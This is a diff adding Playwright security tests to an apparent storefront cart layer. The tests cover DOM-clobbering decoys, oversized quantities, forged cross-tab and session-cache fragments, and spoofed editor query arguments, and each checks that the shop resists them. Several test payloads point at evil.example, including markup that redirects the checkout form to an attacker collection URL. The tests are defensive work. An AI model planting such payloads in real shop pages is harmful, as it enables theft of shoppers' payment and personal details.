@@ -213,7 +213,7 @@ async function addToCart(page: Page, form: Record<string, string | number>) {
  */
 const MODES = [
   { title: 'attack sweep (CSP bypassed: Vitrine alone)', bypassCSP: true, only: null },
-  { title: 'attack sweep (under the strict CSP)', bypassCSP: false, only: new Set(['names', 'messages', 'hash links', 'attributes']) },
+  { title: 'attack sweep (under the strict CSP)', bypassCSP: false, only: new Set(['names', 'messages', 'hash links', 'attributes', 'page content']) },
 ];
 
 for (const mode of MODES) {
@@ -524,6 +524,233 @@ for (const mode of MODES) {
           else expect(answer.status, path).toBe(400);
         }
         count(tally, 'store redirects (request lines with // and /\\)', 4);
+        await report(testInfo, tally);
+      });
+
+    if (runs('page content'))
+      test('clobbered DOM APIs and ids in page content (a post, a page builder block)', async ({ page }, testInfo) => {
+        const { left, tally } = await arm(page);
+        const origin = new URL(testInfo.project.use.baseURL ?? 'http://localhost').origin;
+        const elsewhere: string[] = [];
+        page.on('request', (request) => {
+          if (!request.url().startsWith(origin) && !request.url().startsWith('data:')) elsewhere.push(request.url());
+        });
+        // Markup a shop manager or a page builder puts in a page: elements whose names shadow what the loader and
+        // core look up on `document` (Document's named properties win over its built-ins), and elements taking the
+        // ids of Vitrine's own. They open the body; the loader moves to its end, as a theme printing it in the footer
+        // has it, so every decoy comes before it.
+        const decoys = [
+          `<div id="vitrine-loader" data-base="https://evil.example/chunks/"></div>`,
+          `<a id="vitrine-loader" data-base="//evil.example/"></a>`,
+          `<script type="text/plain" id="vitrine-loader" data-base="https://evil.example/"></script>`,
+          `<div id="vitrine-config">{"debug":true,"urls":{"checkout":"https://evil.example/"}}</div>`,
+          `<div id="fk-cart-state">{"hash":"x"}</div>`,
+          `<div id="vitrine-live-polite"></div><div id="vitrine-live-assertive"></div>`,
+        ].join('');
+        const clobber = (names: string[]) => names.map((name) => `<form name="${name}"></form><img name="${name}" alt="">`).join('');
+        // What Vitrine's code looks up by name on `document`, and the loader's own lookups.
+        const ALL_WIDGETS = ['getElementById'];
+        const LOADER_ONLY = ['querySelector', 'querySelectorAll', 'head', 'documentElement', 'readyState', 'visibilityState', 'currentScript'];
+        let content = '';
+        await page.route(
+          (url) =>
+            url.origin === origin && !url.pathname.startsWith('/vitrine/') && !url.pathname.startsWith('/assets/') && !url.pathname.startsWith('/__test'),
+          async (route) => {
+            const response = await route.fetch();
+            const body = await response.text();
+            const type = response.headers()['content-type'] ?? '';
+            if (!/text\/html/.test(type)) return route.fulfill({ response, body });
+            const loader = /<script type="module" id="vitrine-loader"[^>]*>[\s\S]*?<\/script>/.exec(body)?.[0] ?? '';
+            expect(loader).not.toBe('');
+            const moved = body
+              .replace(loader, '')
+              .replace(/<body[^>]*>/, (tag) => `${tag}${content}`)
+              .replace('</body>', `${loader}</body>`);
+            await route.fulfill({ response, body: moved });
+          },
+        );
+        const pages: Array<[string, string[]]> = [
+          ['/boutique/', ['fk-add-to-cart', 'fk-nav-menu', 'fk-mini-cart', 'fk-side-cart', 'fk-attribution']],
+          ['/produit/t-shirt-leman/', ['fk-variation-form', 'fk-product-gallery', 'fk-nav-menu']],
+          ['/selection/', ['fk-hash-actions', 'fk-loop-filter', 'fk-loop-grid', 'fk-popup']],
+        ];
+        for (const [path, widgets] of pages) {
+          content = `${decoys}${clobber(ALL_WIDGETS)}`;
+          await page.goto(path);
+          await widgetsReady(page, widgets);
+          // The decoys are left as they were: nothing was read from them or written into them.
+          expect(await page.locator('div#vitrine-loader').getAttribute('data-base')).toBe('https://evil.example/chunks/');
+          expect(await page.locator('div#vitrine-live-polite').textContent()).toBe('');
+          count(tally, 'page content: ids of Vitrine’s elements (loader, config, snapshot, live regions) and getElementById', 1);
+
+          // The loader's own lookups shadowed too: it still finds its chunks under its own base.
+          content = `${decoys}${clobber([...ALL_WIDGETS, ...LOADER_ONLY])}`;
+          const chunk = page.waitForRequest((r) => new URL(r.url()).pathname.startsWith('/vitrine/chunks/'));
+          await page.goto(path);
+          await chunk;
+          count(tally, 'page content: the loader’s document lookups (querySelector(All), head, documentElement, readyState…)', 1);
+        }
+        // A shopper's add through the shadowed page: core announces it in its own live region.
+        content = `${decoys}${clobber(ALL_WIDGETS)}`;
+        await page.goto('/boutique/');
+        await widgetsReady(page, ['fk-add-to-cart', 'fk-side-cart']);
+        await page.locator('a.ajax_add_to_cart[data-product_id="15"]').click();
+        await expect(page.locator('div.vitrine-visually-hidden[aria-live="polite"]')).toContainText('ajouté');
+        await page.waitForTimeout(300);
+        expect(elsewhere, 'requests off the site').toEqual([]);
+        await expectClean(page, left, 'page content');
+        await report(testInfo, tally);
+      });
+
+    if (runs('limits'))
+      test('quantities at the number limits, other tabs’ selectors and edit-mode arguments', async ({ page, store }, testInfo) => {
+        const { left, tally } = await arm(page);
+        // Quantities a plain decimal check lets through: finite and whole (1e308), Infinity once read, one past the
+        // most a line holds, one past exact whole numbers. None may reach a cart, a cookie or a total.
+        const HUGE = [`1${'0'.repeat(308)}`, `1${'0'.repeat(400)}`, '10000', '9007199254740993'];
+        const LIMIT = /La quantité maximale (pour « Chocolat noir Grand Cru » )?est de 9999|Veuillez saisir une quantité valide/;
+        const cartClean = async (step: string) => {
+          expect(
+            (await store.cart()).items.every((i) => i.quantity.value <= 9999),
+            step,
+          ).toBe(true);
+          const cookies = Object.fromEntries((await page.context().cookies()).map((c) => [c.name, decodeURIComponent(c.value)]));
+          for (const name of ['fkcart_cart_qty', 'fkcart_cart_total']) expect(cookies[name] ?? '', `${step}: ${name}`).not.toMatch(/e\+|∞|Infinity|NaN/);
+          expect(Number.isFinite((await store.cart()).total.raw), `${step}: total`).toBe(true);
+        };
+        await page.goto('/?vitrine=off');
+        for (const quantity of HUGE) {
+          // The store API itself.
+          const answer = await (await page.request.post('/?wc-ajax=add_to_cart', { form: { product_id: 15, quantity } })).json();
+          expect(answer).toMatchObject({ error: true });
+          // The listing's quantity field, as a theme prints one for every product: the shop refuses, the product page says why.
+          await page.goto('/boutique/');
+          await widgetsReady(page, ['fk-add-to-cart']);
+          await page
+            .locator('li.product', { hasText: 'Chocolat noir Grand Cru' })
+            .locator('a.ajax_add_to_cart')
+            .evaluate(
+              (button, value) => button.insertAdjacentElement('beforebegin', Object.assign(document.createElement('input'), { className: 'qty', value })),
+              quantity,
+            );
+          await page.locator('li.product', { hasText: 'Chocolat noir Grand Cru' }).locator('a.ajax_add_to_cart').click();
+          await expect(page).toHaveURL(/\/produit\/chocolat-noir-grand-cru\/$/);
+          await expect(page.locator('.woocommerce-error, .woocommerce-notices-wrapper').first()).toContainText(LIMIT);
+          await cartClean(`listing ${quantity.length} digits`);
+          count(tally, 'quantity: store API and listing field', 2);
+        }
+        // The product form: whatever the browser's own check lets through, the shop refuses in French.
+        for (const quantity of HUGE) {
+          await page.goto('/produit/chocolat-noir-grand-cru/');
+          await widgetsReady(page, ['fk-variation-form', 'fk-side-cart']);
+          const field = page.locator('fk-variation-form input.qty');
+          await field.fill(quantity);
+          // As on the cart page, Chromium refuses 1 followed by 400 zeros itself.
+          if (await field.evaluate((input: HTMLInputElement) => input.checkValidity())) {
+            await page.locator('fk-variation-form button.single_add_to_cart_button').click();
+            await expect(page.locator('body')).toContainText(LIMIT);
+          }
+          await cartClean(`product form ${quantity.length} digits`);
+          count(tally, 'quantity: product form', 1);
+        }
+        // A line of the side cart and the cart page's form.
+        await addToCart(page, { product_id: 15, quantity: 1 });
+        await page.goto('/boutique/');
+        await widgetsReady(page, ['fk-side-cart']);
+        await page.locator('.fkcart-toggler').click();
+        const line = page
+          .getByRole('dialog', { name: /^Votre panier/ })
+          .locator('li.fkcart-item')
+          .first();
+        for (const quantity of HUGE) {
+          const field = line.getByRole('spinbutton');
+          await field.fill(quantity);
+          await field.press('Enter');
+          await expect(line.locator('.vitrine-quantity__message')).toHaveText(/La quantité maximale est de 9999\.|Veuillez saisir une quantité valide\./);
+          await expect(field).toHaveAttribute('aria-invalid', 'true');
+          count(tally, 'quantity: side cart line', 1);
+        }
+        expect((await store.log()).filter((c) => c.endpoint === 'fkcart_update_item')).toEqual([]);
+        await page.keyboard.press('Escape');
+        for (const quantity of HUGE) {
+          await page.goto('/?page_id=7');
+          const field = page.locator('form.woocommerce-cart-form input.qty').first();
+          await field.fill(quantity);
+          // Chromium refuses 1 followed by 400 zeros itself (« Please enter a number »): nothing is posted then.
+          if (await field.evaluate((input: HTMLInputElement) => input.checkValidity())) {
+            await page.locator('form.woocommerce-cart-form button[name="update_cart"]').click();
+            await expect(page.locator('#main')).toContainText(LIMIT);
+          }
+          await cartClean(`cart page ${quantity.length} digits`);
+          count(tally, 'quantity: cart page form', 1);
+        }
+        // What follows a refused quantity still works: a coupon, then the checkout.
+        expect((await store.cart()).count).toBe(1);
+        await page.request.post('/?wc-ajax=fkcart_apply_coupon', { form: { discount_code: 'BIENVENUE10' } });
+        expect((await page.goto('/checkout/'))?.status()).toBe(200);
+        await cartClean('coupon and checkout');
+
+        // Another tab of the site (any script of the origin can post there) names regions Vitrine does not own.
+        await widgetsReady(page, ['fk-side-cart']);
+        const action = await page.locator('form[name="checkout"]').getAttribute('action');
+        const other = await page.context().newPage();
+        await other.goto('/?vitrine=off');
+        const asked = page.waitForRequest((r) => r.url().includes('wc-ajax=get_refreshed_fragments'));
+        await other.evaluate(() => {
+          const channel = new BroadcastChannel('vitrine-cart');
+          channel.postMessage({
+            hash: 'autre-onglet',
+            fragments: {
+              'form[name="checkout"]': '<form name="checkout" class="fk-attack-markup" action="https://evil.example/collect"></form>',
+              'form.checkout': '<form class="checkout fk-attack-markup" action="https://evil.example/collect"></form>',
+              'header.site-header': '<header class="site-header fk-attack-markup">remplacé</header>',
+              'body > *': '<p class="fk-attack-markup">tout remplacé</p>',
+            },
+          });
+          channel.close();
+        });
+        // Dropped, and the shop asked instead.
+        await asked;
+        await other.close();
+        await expect(page.locator('form[name="checkout"]')).toHaveAttribute('action', action ?? '');
+        await expect(page.locator('header.site-header')).not.toContainText('remplacé');
+        count(tally, 'other tab: BroadcastChannel fragments with foreign selectors', 4);
+        // The same through this tab's session cache, replayed on load (its hash made the cookie's).
+        await page.evaluate(() => {
+          sessionStorage.setItem(
+            'vitrine_fragments',
+            JSON.stringify({
+              hash: 'cache-forge',
+              created: Date.now(),
+              fragments: { 'form[name="checkout"]': '<form name="checkout" action="https://evil.example/"></form>' },
+            }),
+          );
+          document.cookie = 'woocommerce_cart_hash=cache-forge; path=/';
+        });
+        await page.goto('/checkout/');
+        await widgetsReady(page, ['fk-side-cart']);
+        await expect(page.locator('form[name="checkout"]')).toHaveAttribute('action', action ?? '');
+        count(tally, 'session cache: fragments with foreign selectors', 1);
+
+        // Edit-mode arguments in the address: a visitor's page stays a visitor's (the loop refresh sends no editor payload).
+        for (const query of [
+          'elementor-preview=1',
+          'elementor-preview=7',
+          'elementor-preview[]=1&preview=true',
+          'elementor-preview=1&preview_id=1&preview_nonce=x',
+        ]) {
+          await page.goto(`/selection/?${query}`);
+          await widgetsReady(page, ['fk-loop-filter', 'fk-loop-grid']);
+          const config = await page.locator('script#vitrine-config').evaluate((el) => JSON.parse(el.textContent ?? '{}'));
+          expect(config.elementor?.is_edit_mode ?? false, query).toBe(false);
+          const refresh = page.waitForRequest((r) => r.url().includes('refresh-loop'));
+          await page.locator('fk-loop-filter').first().getByRole('button').nth(1).click();
+          const body = (await refresh).postDataJSON() as Record<string, unknown>;
+          expect(body.is_edit_mode, query).toBeUndefined();
+          expect(body.widget_model, query).toBeUndefined();
+          count(tally, 'edit-mode arguments in the address', 1);
+        }
+        await expectClean(page, left, 'limits, tabs and edit mode');
         await report(testInfo, tally);
       });
 
